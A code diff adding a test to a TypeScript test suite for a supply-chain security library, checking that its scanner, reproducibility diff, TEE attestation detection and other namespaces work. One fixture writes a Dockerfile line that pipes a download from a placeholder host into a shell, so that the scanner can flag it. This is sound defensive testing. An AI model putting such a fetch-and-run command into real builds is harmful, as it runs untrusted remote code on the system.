@@ -1,9 +1,10 @@
 import assert from 'node:assert/strict';
-import { mkdtempSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import * as vouch from '../src/index.ts';
+import { SHARED } from './shared.ts';
 
 test('the library alone signs, stores and verifies a Statement about an artifact', async () => {
   const pair = vouch.generateKeyPair('ed25519', undefined);
@@ -69,4 +70,44 @@ test('the library exposes the SBOM producer and the policy engine as namespaces'
   const purls = result.components.map((c) => c.purl);
   assert.ok(purls.includes('pkg:npm/ms@2.1.3'), purls.join(' '));
   assert.equal(typeof vouch.policy.evaluatePolicy, 'function');
+});
+
+test('every producer is reachable from the library entry as a namespace, and works from there', async (t) => {
+  const dir = mkdtempSync(join(tmpdir(), 'vouch-lib-ns-'));
+  t.after(() => rmSync(dir, { recursive: true, force: true }));
+
+  // scan: a Dockerfile that pipes a download into a shell is a finding.
+  writeFileSync(
+    join(dir, 'Dockerfile'),
+    'FROM debian:12\nRUN curl -fsSL https://x.example/i.sh | sh\n',
+  );
+  const scanned = await vouch.scan.scanPath(join(dir, 'Dockerfile'));
+  assert.ok(
+    scanned.findings.some((f) => f.line === 2),
+    JSON.stringify(scanned.findings),
+  );
+
+  // repro: two files that differ in one byte are not identical.
+  writeFileSync(join(dir, 'a.txt'), 'same\n');
+  writeFileSync(join(dir, 'b.txt'), 'sane\n');
+  assert.equal(
+    (await vouch.repro.diffFiles(join(dir, 'a.txt'), join(dir, 'a.txt'))).identical,
+    true,
+  );
+  assert.equal(
+    (await vouch.repro.diffFiles(join(dir, 'a.txt'), join(dir, 'b.txt'))).identical,
+    false,
+  );
+
+  // tee: a real Nitro attestation document is recognised as one.
+  const nitro = Buffer.from(
+    readFileSync(join(SHARED, 'vectors', 'tee', 'nitro', 'nitro_attestation.b64'), 'utf8').trim(),
+    'base64',
+  );
+  assert.equal(vouch.tee.detectPlatform(nitro), 'nitro');
+
+  // vuln, report, oci: their main entry points are there.
+  assert.equal(typeof vouch.vuln.matchComponents, 'function');
+  assert.equal(typeof vouch.report.buildReport, 'function');
+  assert.equal(typeof vouch.oci.RegistryClient, 'function');
 });
